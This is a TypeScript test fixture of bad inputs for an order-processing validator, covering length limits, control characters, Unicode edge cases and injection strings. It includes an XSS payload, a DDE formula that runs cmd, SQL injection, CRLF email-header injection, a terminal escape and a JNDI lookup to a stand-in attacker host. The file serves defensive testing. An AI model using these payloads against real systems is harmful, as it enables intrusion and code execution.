import { type BodyEntry, confirmed, deadLettered, order, orderWith } from './body-entry.ts';

const BAD_NAME = deadLettered('customer_name: invalid_format');
const BAD_PRODUCT = deadLettered('product_name: invalid_format');

/** Names that break lines, screens, mails or counts. */
export const badTexts: BodyEntry[] = [
  order('a name of one letter', { customer_name: 'J' }, confirmed({ customer_name: 'J' })),
  order('an empty name', { customer_name: '' }, deadLettered('customer_name: too_small')),
  order('a name of blanks', { customer_name: ' \t\u00a0\u3000 ' }, deadLettered('customer_name: too_small')),
  order('an empty product_id', { product_id: '' }, deadLettered('product_id: too_small')),
  order('a name of 256 letters', { customer_name: 'x'.repeat(256) }, confirmed()),
  order('a name of 257 letters', { customer_name: 'x'.repeat(257) }, deadLettered('customer_name: too_big')),
  order(
    'a name of 256 letters between blanks',
    { customer_name: `  ${'y'.repeat(256)}\n` },
    confirmed({ customer_name: 'y'.repeat(256) }),
  ),
  order(
    'a name of 129 emoji: they are two units each',
    { customer_name: '🫖'.repeat(129) },
    deadLettered('customer_name: too_big'),
  ),
  order('a product_id of 257 letters', { product_id: 'x'.repeat(257) }, deadLettered('product_id: too_big')),
  order(
    'a product_name of a million letters',
    { product_name: 'x'.repeat(1_000_000) },
    deadLettered('product_name: too_big'),
  ),
  order('NUL in a name', { customer_name: 'Jane\0Doe' }, BAD_NAME),
  order('a terminal escape in a name', { customer_name: '\u001b]0;owned\u0007Jane' }, BAD_NAME),
  order('a C1 control in a name', { customer_name: 'Jane\u009b31m' }, BAD_NAME),
  order('DEL in a name', { customer_name: 'Jane\u007f' }, BAD_NAME),
  order('a tab in a name', { customer_name: 'Jane\tDoe' }, BAD_NAME),
  order('a header after CRLF in a name', { customer_name: 'Jane\r\nBcc: all@example.org' }, BAD_NAME),
  order('a header after CRLF in a product_name', { product_name: 'Kettle\r\nSubject: You won' }, BAD_PRODUCT),
  order('a line feed in a product_name', { product_name: 'Kettle\n\nPay here' }, BAD_PRODUCT),
  order('NEL, which is a line break to some', { product_name: 'Kettle\u0085Pay here' }, BAD_PRODUCT),
  order(
    'a line separator in a product_name: the mail has none',
    { product_name: 'Kettle\u2028Pay here' },
    confirmed(),
  ),
  orderWith('a lone high surrogate', 'customer_name', '"Jane \\ud83d"', BAD_NAME),
  orderWith('a lone low surrogate', 'customer_name', '"\\udd56 Jane"', BAD_NAME),
  orderWith('surrogates the wrong way round', 'product_name', '"\\udd56\\ud83d"', BAD_PRODUCT),
  orderWith('U+FFFE as an escape', 'customer_name', '"Jane\\ufffe"', BAD_NAME),
  orderWith('a broken escape', 'customer_name', '"Jane\\u12"', deadLettered(': not_json')),
  order(
    'right-to-left override in a name: the mail has none',
    { customer_name: 'Jane \u202eeoD' },
    confirmed({ customer_name: 'Jane \u202eeoD' }),
  ),
  order(
    'zero-width letters in a name: the mail has none',
    { customer_name: 'Ja\u200bne\u2060 \u200dDoe' },
    confirmed(),
  ),
  order('a name of nothing but zero-width letters', { customer_name: '\u200b\u2060' }, confirmed()),
  order('tag characters, which nobody sees', { customer_name: 'Jane\u{e0041}\u{e0042}' }, confirmed()),
  order(
    'a name in NFC',
    { customer_name: 'José NF'.normalize('NFC') },
    confirmed({ customer_name: 'José NF'.normalize('NFC') }),
  ),
  order(
    'the same name in NFD: it stays as it is',
    { customer_name: 'José NF'.normalize('NFD') },
    confirmed({ customer_name: 'José NF'.normalize('NFD') }),
  ),
  order('a name under 60 combining marks', { customer_name: `J${'\u0336'.repeat(60)}` }, confirmed()),
  order('markup in a name', { customer_name: '<img src=x onerror=alert(1)>' }, confirmed()),
  order('a link in a name: the mail has none', { customer_name: 'http://evil.example/pay' }, confirmed()),
  order('a formula in a product_name', { product_name: "=cmd|' /C calc'!A0" }, confirmed()),
  order('SQL in a name', { customer_name: "Robert'); DROP TABLE sales;--" }, confirmed()),
  order('a JNDI look-up in a name', { customer_name: `\${jndi:ldap://evil.example/a}` }, confirmed()),
  order('a format string in a name', { customer_name: `%s%n%x {{7*7}} \${7*7}` }, confirmed()),
];
